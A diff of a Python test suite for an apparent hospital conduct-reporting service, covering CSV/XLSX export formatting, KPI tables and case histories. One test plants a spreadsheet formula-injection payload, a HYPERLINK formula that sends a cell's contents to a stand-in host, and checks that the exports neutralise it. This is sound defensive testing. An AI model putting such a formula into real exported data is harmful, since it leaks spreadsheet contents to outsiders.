@@ -17,10 +17,12 @@ import os
 import random
 import sys
 import uuid
+import zipfile
 from collections.abc import AsyncIterator, Iterable, Mapping, Sequence
 from contextlib import AsyncExitStack
 from dataclasses import dataclass, field
 from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal, InvalidOperation
 from pathlib import Path
 from typing import Any
 
@@ -30,6 +32,8 @@ from aiokafka import AIOKafkaConsumer, AIOKafkaProducer, TopicPartition
 from aiokafka.admin import AIOKafkaAdminClient
 from fastapi import FastAPI
 from openpyxl import load_workbook
+from openpyxl.cell.cell import Cell, MergedCell
+from openpyxl.cell.read_only import EmptyCell
 from prometheus_client.parser import text_string_to_metric_families
 from pymongo import AsyncMongoClient
 from pymongo.asynchronous.database import AsyncDatabase
@@ -49,9 +53,16 @@ from services.common.store import Document
 from services.escalation.conduct import ConductFile, decide
 from services.escalation.rulebook import RuleBook
 from services.reporting.access import COOKIE, ReportTokens, Role
-from services.reporting.api import MONTHLY_COLUMNS, monthly_rows
+from services.reporting.api import (
+    KPI_COLUMNS,
+    MONTHLY_COLUMNS,
+    hospital_time,
+    kpi_rows,
+    monthly_rows,
+)
+from services.reporting.exports import FORMULA_TRIGGERS
 from services.reporting.facts import CaseFact
-from services.reporting.kpi import TARGETS_FILE, KpiTargets
+from services.reporting.kpi import TARGETS_FILE, KpiStatus, KpiTargets
 from services.reporting.main import create_app
 from services.reporting.monthly import MonthlyReport, month_bounds, monthly_report
 from services.reporting.registers import (
@@ -426,16 +437,30 @@ def kpi(report: Mapping[str, Any]) -> dict[str, tuple[str | None, str, str | Non
 
 
 def canonical(value: object) -> str:
-    """A cell as text, whichever way it travelled: JSON, CSV or XLSX."""
+    """A cell as a person reads it, whichever way it travelled: JSON, CSV or XLSX. Moments in
+    the hospital's time to the minute, numbers by value (0.5000 is 0.5), yes/no as 是/否."""
     if value is None:
         return ""
+    if isinstance(value, bool):
+        return "是" if value else "否"
     text = str(value)
-    if len(text) >= 19 and text[4] == "-" and text[10] in "T ":
-        try:
-            return datetime.fromisoformat(text).astimezone(UTC).isoformat()
-        except ValueError:
-            return text
-    return text
+    if len(text) >= 19 and text[4] == "-" and text[10] == "T":
+        return hospital_time(datetime.fromisoformat(text))
+    try:
+        number = Decimal(text)
+    except InvalidOperation:
+        return text
+    return format(number.normalize(), "f") if number.is_finite() else text
+
+
+def _xlsx_cell(cell: Cell | MergedCell | EmptyCell) -> str:
+    """An XLSX cell as the spreadsheet shows it, by its number format."""
+    value, number_format = cell.value, getattr(cell, "number_format", "General")
+    if isinstance(value, datetime):
+        return value.strftime("%Y-%m-%d %H:%M" if "hh" in number_format else "%Y-%m-%d")
+    if isinstance(value, int | float) and number_format == "0.00%":
+        return f"{Decimal(str(value)) * 100:.2f}%"
+    return canonical(value)
 
 
 def csv_rows(answer: httpx.Response) -> list[list[str]]:
@@ -449,10 +474,14 @@ def csv_rows(answer: httpx.Response) -> list[list[str]]:
 def xlsx_rows(answer: httpx.Response, sheet: str) -> list[list[str]]:
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
-    workbook = load_workbook(io.BytesIO(answer.content), read_only=True)
+    workbook = load_workbook(io.BytesIO(answer.content))
     (worksheet,) = workbook.worksheets
     assert worksheet.title == sheet[:31]
-    return [[canonical(cell) for cell in row] for row in worksheet.iter_rows(values_only=True)]
+    assert worksheet.freeze_panes == "A2"
+    assert worksheet.auto_filter.ref == worksheet.dimensions
+    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode(), "no formulas"
+    return [[_xlsx_cell(cell) for cell in row] for row in worksheet.iter_rows()]
 
 
 def table_of(
@@ -474,9 +503,14 @@ async def exports_match(
     sheet: str,
     **params: str,
 ) -> None:
-    """The CSV and the XLSX of ``path`` hold ``expected`` (from its JSON)."""
+    """The CSV and the XLSX of ``path`` hold ``expected`` (from its JSON). The CSV carries text
+    a spreadsheet would run behind a quote (the topics are shared: such text may be there)."""
+
+    def unquoted(cell: str) -> str:
+        return cell[1:] if cell[:1] == "'" and cell[1:2] in FORMULA_TRIGGERS else cell
+
     from_csv = csv_rows(await reporting.get(path, token, format="csv", **params))
-    assert [[canonical(cell) for cell in row] for row in from_csv] == expected
+    assert [[canonical(unquoted(cell)) for cell in row] for row in from_csv] == expected
     from_xlsx = xlsx_rows(await reporting.get(path, token, format="xlsx", **params), sheet)
     assert from_xlsx == expected
 
@@ -1138,7 +1172,9 @@ async def test_progress_and_problems_of_a_month(
         "test_mutual_recognition",
         "catalogue_drug_use",
     ]
-    assert finance["problems"]["without_study"] == ["finance"]
+    assert finance["problems"]["without_study"] == [
+        {"department": "finance", "department_zh": "财务部", "department_en": "Finance Department"}
+    ]
     assert (
         await reporting.read("/v1/reports/kpi", office, period=b, scope="finance")
         == (finance["kpi"])
@@ -1166,7 +1202,7 @@ async def test_progress_and_problems_of_a_month(
         c5.case_id,
         c3.case_id,
     ]
-    assert hospital["problems"]["without_study"] == [
+    assert [named["department"] for named in hospital["problems"]["without_study"]] == [
         code for code in DEPARTMENTS if code not in ("medical_affairs", "nursing")
     ]
 
@@ -1404,8 +1440,13 @@ async def test_exports_hold_what_the_json_says(
             overdue_row = next(row for row in expected if row[1] == c3.case_id)
             assert overdue_row[0] == "存在问题·逾期案件"
             assert overdue_row[3].startswith("财务部 期限 ")
-            assert ["存在问题·本月未开展专题学习", "finance", "", ""] in expected
-            assert ["存在问题·指标未达标", "检查结果互认率", "0.5", "未达标；目标 0.80"] in expected
+            assert ["存在问题·本月未开展专题学习", "财务部", "", ""] in expected
+            assert [
+                "存在问题·指标未达标",
+                "检查结果互认率",
+                "50.00%",
+                "未达标；目标 ≥ 80.00%",
+            ] in expected
 
     answer = await reporting.get("/v1/reports/monthly", office, month=b, format="csv")
     assert f"{b}.csv" in answer.headers["content-disposition"]
@@ -1442,7 +1483,7 @@ async def test_exports_hold_what_the_json_says(
             "notices",
             "通报",
             [
-                ("department", "科室"),
+                ("department_zh", "科室"),
                 ("as_of", "日期"),
                 ("item", "整改事项"),
                 ("explanation_zh", "说明"),
@@ -1479,26 +1520,112 @@ async def test_exports_hold_what_the_json_says(
         sheet="上报统计",
     )
     statuses = await reporting.read("/v1/reports/kpi", office, period=b, scope="finance")
-    kpi_columns = [
-        ("label_zh", "指标"),
-        ("scope", "范围"),
-        ("period", "期间"),
-        ("value", "数值"),
-        ("target", "目标"),
-        ("comparison", "比较"),
-        ("status_zh", "状态"),
-        ("source", "来源"),
-        ("basis", "依据"),
-    ]
-    await exports_match(
-        reporting,
-        "/v1/reports/kpi",
-        office,
-        table_of(statuses, kpi_columns),
-        sheet="指标",
-        period=b,
-        scope="finance",
+    kpi_table = table_of(
+        kpi_rows([KpiStatus.model_validate(s) for s in statuses], CATALOGUE), KPI_COLUMNS
     )
+    await exports_match(
+        reporting, "/v1/reports/kpi", office, kpi_table, sheet="指标", period=b, scope="finance"
+    )
+    # Rates as percentages, days as days, the department by name; the JSON keeps fractions.
+    assert kpi_table[0] == ["指标", "范围", "期间", "数值", "比较", "目标", "状态", "来源", "依据"]
+    rows = {row[0]: row[1:8] for row in kpi_table[1:]}
+    assert rows["投诉查处率"] == ["财务部", b, "50.00%", "≥", "100.00%", "未达标", "本系统计算"]
+    assert rows["住院患者平均等待天数"][2:6] == ["5", "≤", "7", "达标"]
+    assert {s["metric"]: s["value"] for s in statuses}["complaint_investigation_rate"] == "0.5000"
+
+
+async def test_exports_keep_text_a_spreadsheet_would_run_from_running(
+    reporting: Reporting, inputs: Inputs, scenario: Scenario, tokens: Tokens
+) -> None:
+    b = scenario.month
+    reporting.clock.now = at(shift(b, 1), 25)
+    # A rectification item as a department could word it to leak the sheet when opened.
+    item = f'=HYPERLINK("http://example.invalid/{fresh("")}?"&A1,"整改详情")'
+    notice = ruling(
+        "R-RECTIFY",
+        f"status:{uuid.uuid4()}",
+        DecisionKind.NOTICE,
+        (SubjectKind.DEPARTMENT, "laboratory"),
+        as_of=at(b, 9),
+        facts={"item": item, "status": "perfunctory"},
+    )
+    await inputs.publish(notice)
+    await reporting.caught_up()
+    path, office = "/v1/reports/registers/notices", tokens.conduct_office
+
+    (row,) = [r for r in csv_rows(await reporting.get(path, office, format="csv")) if item in r[2]]
+    assert row[:3] == ["检验科", hospital_time(at(b, 9)), "'" + item]
+
+    answer = await reporting.get(path, office, format="xlsx")
+    xlsx_rows(answer, "通报")  # no formula anywhere in the sheet
+    sheet = load_workbook(io.BytesIO(answer.content)).active
+    assert sheet is not None
+    (cell,) = [c for c in sheet["C"] if c.value == item]
+    assert (cell.data_type, cell.quotePrefix) == ("s", True)
+    assert sheet.cell(cell.row, 1).value == "检验科"
+
+
+async def test_the_case_view_shows_every_change_and_every_refused_action_with_its_reason(
+    reporting: Reporting, inputs: Inputs, scenario: Scenario, tokens: Tokens
+) -> None:
+    after = shift(scenario.month, 1)
+    reporting.clock.now = at(after, 25)
+
+    def action(case: CaseUpdated, on: datetime, **facts: Any) -> CaseUpdated:
+        event = accepted(
+            "case_action", occurred_at=on, case_id=case.case_id, actor_staff_id="S0101", **facts
+        )
+        assert isinstance(event, CaseActionReceived)
+        return take_action(case, event, ROUTING, now=on)
+
+    opened = routed_case(complaint(received=at(after, 2), category="kickback"), now=at(after, 2))
+    close_early = action(opened, at(after, 3), action="close", reason="拟结案")
+    same_department = action(
+        close_early, at(after, 4), action="reassign", to_department="finance", reason="重新分派"
+    )
+    reassigned = action(
+        same_department,
+        at(after, 5),
+        action="reassign",
+        to_department="medical_affairs",
+        reason="涉及服务流程，改由医务部调查",
+    )
+    # The router answers none of these actions' senders (intake has long said 202): reporting
+    # is where the office sees what became of them, whatever order the revisions come in.
+    await inputs.publish(reassigned, opened, same_department, close_early)
+    await reporting.caught_up()
+
+    view = await reporting.read(f"/v1/reports/cases/{opened.case_id}", tokens.conduct_office)
+
+    assert view["case"]["revision"] == reassigned.revision
+    assert view["case"]["department"] == "medical_affairs"
+    steps = [
+        (step["change"], step["change_zh"], step["state_zh"], step["by"], step["note"])
+        for step in view["history"]
+    ]
+    assert steps[-3:] == [
+        ("refused", "操作被拒绝", "已分派", "S0101", "结案被拒绝：尚无调查结论"),
+        ("refused", "操作被拒绝", "已分派", "S0101", "改派被拒绝：已由该科室负责"),
+        ("reassigned", "改派", "已分派", "S0101", "涉及服务流程，改由医务部调查"),
+    ]
+    assert [step["change"] for step in view["history"]] == [
+        str(entry.change) for entry in reassigned.history
+    ]
+    assert [datetime.fromisoformat(step["at"]) for step in view["history"]] == [
+        entry.at for entry in reassigned.history
+    ]
+    departments = {
+        (step["department"], step["department_zh"], step["department_en"])
+        for step in view["history"]
+        if step["department"]
+    }
+    assert departments == {
+        ("finance", "财务部", "Finance Department"),
+        ("medical_affairs", "医务部（行风办）", "Medical Affairs Department (Conduct Office)"),
+    }
+    record = await reporting.reports.case(opened.case_id)
+    assert record is not None
+    assert record.history == reassigned.history
 
 
 # --- Registers --------------------------------------------------------------------------------
@@ -1576,8 +1703,8 @@ async def test_registers_keep_the_standing_decisions(
     assert [c for c in vendor_cutoffs(decisions) if c.company_code in companies.values()] == (
         vendor_cutoffs(scenario.decisions)
     )
-    assert [n for n in notices(decisions) if n.item in items.values()] == notices(
-        scenario.decisions
+    assert [n for n in notices(decisions, CATALOGUE) if n.item in items.values()] == notices(
+        scenario.decisions, CATALOGUE
     )
 
 
@@ -1710,7 +1837,7 @@ async def test_a_rebuild_from_the_topics_gives_the_same_reports(
             [bar for bar in promotion_bars(decisions, today=today) if bar.staff_id in staff],
             [cut for cut in vendor_cutoffs(decisions) if cut.company_code in companies],
             [e for e in escalations(decisions)[0] if e.case_id in scenario.case_ids],
-            [notice for notice in notices(decisions) if notice.item in items],
+            [notice for notice in notices(decisions, CATALOGUE) if notice.item in items],
         )
 
     assert registers(rebuilt_decisions) == registers(live_decisions)
@@ -1720,6 +1847,8 @@ async def test_a_rebuild_from_the_topics_gives_the_same_reports(
     }
     assert rebuilt_cases == live_cases
     assert len(live_cases) == len(scenario.cases)
+    for case_id in scenario.case_ids:
+        assert await rebuilt.case(case_id) == await live.case(case_id)
 
     # What the topics cannot give back comes along: tokens, confirmations, the access log.
     for collection in ("reporting_tokens", "reporting_confirmations", "reporting_access_log"):
